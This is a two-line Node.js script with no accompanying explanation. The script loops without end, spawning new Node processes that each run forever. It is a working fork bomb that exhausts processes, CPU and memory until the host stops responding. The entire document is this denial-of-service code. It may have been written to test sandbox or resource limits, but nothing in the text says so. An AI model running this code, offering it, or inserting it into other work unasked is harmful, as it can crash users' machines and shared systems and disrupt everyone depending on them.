const { spawn } = require('node:child_process');
for (;;) spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)']);
